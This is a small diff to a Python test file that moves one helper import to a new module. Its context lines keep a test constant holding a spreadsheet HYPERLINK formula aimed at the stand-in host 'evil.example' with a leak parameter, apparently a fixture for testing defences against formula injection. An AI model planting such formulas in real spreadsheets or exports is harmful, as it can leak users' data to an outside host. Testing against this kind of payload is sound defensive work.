@@ -7,7 +7,7 @@ import uuid
 
 import oracle
 from conftest import keptd_cmd, new_account, new_customer
-from test_analytics import assert_verified
+from helpers import assert_verified
 
 FROM, TO = "2000-01-03", "2100-01-04"
 FORMULA = '=HYPERLINK("http://evil.example/?leak=1","click")'
